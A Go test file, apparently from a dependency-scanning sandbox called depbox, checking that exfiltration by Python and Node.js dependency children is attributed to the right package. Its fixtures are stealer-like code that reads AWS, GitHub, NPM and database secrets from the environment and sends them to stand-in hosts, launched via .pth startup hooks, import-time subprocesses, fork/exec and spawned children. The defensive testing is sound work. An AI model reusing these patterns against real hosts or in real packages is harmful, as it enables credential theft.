package scan_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/depbox/depbox/internal/scan"
	"github.com/depbox/depbox/internal/verdict"
	"github.com/depbox/depbox/profile"
)

// childCode is a `python -c` program that reads the canary variable name,
// looks host up and sends the variable's value to addr:port (one the fake
// internet listens on, fakenet.Ports): what a stealer's inline child does. Test fixture: it runs only inside depbox's
// sandbox, and addr is a documentation address, host a *.invalid name.
func childCode(name, host, addr string, port int) string {
	return fmt.Sprintf("import os, socket\n"+
		"v = os.environ[%q]\n"+
		"try:\n    socket.getaddrinfo(%q, 80)\nexcept OSError:\n    pass\n"+
		"s = socket.create_connection((%q, %d), timeout=5)\n"+
		"s.sendall(b'v=' + v.encode())\ns.close()\n", name, host, addr, port)
}

// TestPythonChildAttribution runs, in the real sandbox, a Python bundle
// whose distribution starts `python -c` children from its .pth file
// (startup), at import (subprocess, and os.fork + os.execv) and when the
// handler calls it (os.system, so a shell between), and whose handler
// starts one of its own (os.posix_spawn). A child's code is no file of the bundle, so its hook
// names nobody; the process tree names whoever started it: the
// distribution's children's environment reads, DNS names, connections and
// canaries are the distribution's, in the startup, import and invoke
// phases, and none of them the function's; the handler's child is the
// function's own, not unattributed.
func TestPythonChildAttribution(t *testing.T) {
	requirePython(t)
	const dist = "kid-1.0.dist-info"
	atImport := childCode("AWS_SECRET_ACCESS_KEY", "imp.kid.invalid", "192.0.2.10", 4444)
	forked := childCode("DATABASE_URL", "fork.kid.invalid", "192.0.2.11", 1337)
	called := childCode("NPM_TOKEN", "call.kid.invalid", "198.51.100.10", 9001)
	own := childCode("GITHUB_TOKEN", "fn.kid.invalid", "203.0.113.10", 5555)
	atStartup := childCode("AWS_SESSION_TOKEN", "pth.kid.invalid", "192.0.2.13", 6666)
	dir := writeTree(t, map[string]string{
		"kid/__init__.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
			"import os, shlex, subprocess, sys\n" +
			"subprocess.run([sys.executable, '-c', " + fmt.Sprintf("%q", atImport) + "], timeout=10)\n" +
			"pid = os.fork()\n" +
			"if pid == 0:\n" +
			"    try:\n        os.execv(sys.executable, [sys.executable, '-c', " + fmt.Sprintf("%q", forked) + "])\n" +
			"    finally:\n        os._exit(1)\n" +
			"os.waitpid(pid, 0)\n\n" +
			"def work():\n" +
			"    os.system(shlex.join([sys.executable, '-c', " + fmt.Sprintf("%q", called) + "]))\n",
		dist + "/METADATA": "Metadata-Version: 2.1\nName: kid\nVersion: 1.0\n",
		"kid-startup.pth":  "import subprocess, sys; subprocess.run([sys.executable, '-c', " + fmt.Sprintf("%q", atStartup) + "], timeout=10)\n",
		dist + "/RECORD":   "kid/__init__.py,,\nkid-startup.pth,,\n" + dist + "/METADATA,,\n" + dist + "/RECORD,,\n",
		"lambda_function.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
			"import os, sys\nimport kid\n\n" +
			"def lambda_handler(event, context):\n" +
			"    kid.work()\n" +
			"    pid = os.posix_spawn(sys.executable, [sys.executable, '-c', " + fmt.Sprintf("%q", own) + "], os.environ)\n" +
			"    os.waitpid(pid, 0)\n" +
			"    return 1\n",
	})
	p := run(t, invokeOptions(t, dir))

	type sent struct {
		canary, host, dest string
	}
	imported := []sent{{"AWS_SECRET_ACCESS_KEY", "imp.kid.invalid", "192.0.2.10:4444"}, {"DATABASE_URL", "fork.kid.invalid", "192.0.2.11:1337"}}
	for _, tt := range []struct {
		who   string
		b     *profile.Behavior
		theft []sent
	}{
		{dist + " startup", phaseOf(t, p, dist, profile.PhaseStartup), []sent{{"AWS_SESSION_TOKEN", "pth.kid.invalid", "192.0.2.13:6666"}}},
		{dist + " import", phaseOf(t, p, dist, profile.PhaseImport), imported},
		{dist + " invoke", phaseOf(t, p, dist, profile.PhaseInvoke), append(slices.Clone(imported), sent{"NPM_TOKEN", "call.kid.invalid", "198.51.100.10:9001"})},
		{"the function's invoke", p.App.Phases[profile.PhaseInvoke], []sent{{"GITHUB_TOKEN", "fn.kid.invalid", "203.0.113.10:5555"}}},
	} {
		if tt.b == nil {
			t.Fatalf("%s: no behaviour", tt.who)
		}
		for _, s := range tt.theft {
			if !slices.Contains(tt.b.Env, s.canary) {
				t.Errorf("%s: the child's read of %s is not among %v", tt.who, s.canary, tt.b.Env)
			}
			if !slices.ContainsFunc(tt.b.DNS, func(q profile.DNSQuery) bool { return q.Name == s.host }) {
				t.Errorf("%s: the child's lookup of %s is not among %+v", tt.who, s.host, tt.b.DNS)
			}
			if !hasExfil(tt.b, s.canary, "network", s.dest, "raw") {
				t.Errorf("%s: %s sent to %s is not its exfiltration: %+v", tt.who, s.canary, s.dest, tt.b.Exfiltration)
			}
		}
	}
	// Nothing of the distribution's children is the function's, nor
	// unattributed; the function's own child is not unattributed either.
	app := p.App.Phases[profile.PhaseInvoke]
	if u := app.Unattributed; u != nil && (len(u.Network) > 0 || len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
	}
	for _, e := range app.Exfiltration {
		if e.Canary != "GITHUB_TOKEN" {
			t.Errorf("the function is charged with its dependency's theft: %+v", e)
		}
	}
	for _, n := range app.Network {
		if n.Address != "203.0.113.10" && n.Address != "" {
			t.Errorf("the function is charged with its dependency's connection: %+v", n)
		}
	}
	for _, f := range verdict.Evaluate(verdict.Input{Profile: p}, verdict.Options{}).AtOrAbove(verdict.Low) {
		if f.Path != "." {
			continue
		}
		if f.Rule == "DBX013" || f.Rule == "DBX014" {
			t.Errorf("a finding on the function for what nobody was named for: %+v", f)
		}
		if v := strings.Join(f.Evidence.Values, " "); strings.Contains(v, "kid.invalid") && !strings.Contains(v, "fn.kid.invalid") ||
			strings.Contains(v, "192.0.2.1") || strings.Contains(v, "198.51.100.10") {
			t.Errorf("a finding on the function names its dependency's child: %+v", f)
		}
	}
}

// TestNodeEvalChildAttribution is the same for Node.js, in the real
// sandbox: a package's `node -e` child, started when the handler calls the
// package, looks a name up and sends a canary; the child's hook names
// nobody (its code is no file of the bundle), the process tree names the
// package, and the function is charged with none of it. (The child's
// environment read itself is not recorded: the Node.js hook skips `[eval]`
// frames, the scripts depbox's loaders run as.)
func TestNodeEvalChildAttribution(t *testing.T) {
	child := "const v = process.env.NPM_TOKEN; require('dns').lookup('node.kid.invalid', () => {" +
		" const s = require('net').connect(4444, '192.0.2.12', () => s.end('v=' + v)); s.on('error', () => {}); });"
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                    `{"name":"fn","version":"1.0.0","dependencies":{"kidjs":"1.0.0"}}`,
		"index.js":                        "const kid = require('kidjs');\nexports.handler = async () => kid.work();\n",
		"node_modules/kidjs/package.json": `{"name":"kidjs","version":"1.0.0"}`,
		"node_modules/kidjs/index.js": "// TEST FIXTURE: runs only inside depbox's sandbox.\n" +
			"const { execFileSync } = require('child_process');\n" +
			"exports.work = () => { execFileSync(process.execPath, ['-e', " + fmt.Sprintf("%q", child) + "], { timeout: 10000 }); return 1; };\n",
	})
	p := run(t, invokeOptions(t, dir))
	b := phaseOf(t, p, "node_modules/kidjs", profile.PhaseInvoke)
	if !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == "node.kid.invalid" }) {
		t.Errorf("kidjs: the child's lookup is not among %+v", b.DNS)
	}
	if !hasExfil(b, "NPM_TOKEN", "network", "192.0.2.12:4444", "raw") {
		t.Errorf("kidjs: NPM_TOKEN sent to 192.0.2.12:4444 is not its exfiltration: %+v", b.Exfiltration)
	}
	app := p.App.Phases[profile.PhaseInvoke]
	if len(app.Exfiltration) > 0 || len(app.Network) > 0 || slices.Contains(app.Env, "NPM_TOKEN") {
		t.Errorf("the function is charged with its dependency's child: %+v", app)
	}
	if u := app.Unattributed; u != nil && (len(u.Network) > 0 || len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
	}
}

// TestPythonExecInPlaceAttribution: a distribution that replaces the
// function's own process with `python -c` (os.execv, no fork) ends the
// invoke phase (the profile is incomplete), and what the new program does
// — its records name nobody — is the distribution's, by the exec record
// its program sent before it: not the function's, not unattributed. Real
// sandbox; the program contacts only a documentation address.
func TestPythonExecInPlaceAttribution(t *testing.T) {
	requirePython(t)
	const dist = "kex-1.0.dist-info"
	code := childCode("NPM_TOKEN", "exec.kex.invalid", "198.51.100.20", 4444)
	dir := writeTree(t, map[string]string{
		"kex/__init__.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
			"import os, sys\n\ndef takeover():\n" +
			"    os.execv(sys.executable, [sys.executable, '-c', " + fmt.Sprintf("%q", code) + "])\n",
		dist + "/METADATA":   "Metadata-Version: 2.1\nName: kex\nVersion: 1.0\n",
		dist + "/RECORD":     "kex/__init__.py,,\n" + dist + "/METADATA,,\n" + dist + "/RECORD,,\n",
		"lambda_function.py": "import kex\n\ndef lambda_handler(event, context):\n    kex.takeover()\n",
	})
	p, _, err := scan.Scan(context.Background(), invokeOptions(t, dir))
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	if !p.Incomplete {
		t.Errorf("the invoke phase ended by an exec is not incomplete: %+v", p.App.Phases[profile.PhaseInvoke].Outcome)
	}
	b := phaseOf(t, p, dist, profile.PhaseInvoke)
	if !slices.Contains(b.Env, "NPM_TOKEN") {
		t.Errorf("kex: the new program's read of NPM_TOKEN is not among %v", b.Env)
	}
	if !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == "exec.kex.invalid" }) {
		t.Errorf("kex: the new program's lookup is not among %+v", b.DNS)
	}
	if !hasExfil(b, "NPM_TOKEN", "network", "198.51.100.20:4444", "raw") {
		t.Errorf("kex: NPM_TOKEN sent to 198.51.100.20:4444 is not its exfiltration: %+v", b.Exfiltration)
	}
	app := p.App.Phases[profile.PhaseInvoke]
	if len(app.Exfiltration) > 0 || slices.Contains(app.Env, "NPM_TOKEN") {
		t.Errorf("the function is charged with what its dependency's program did: %+v", app)
	}
	if u := app.Unattributed; u != nil && (len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
	}
}
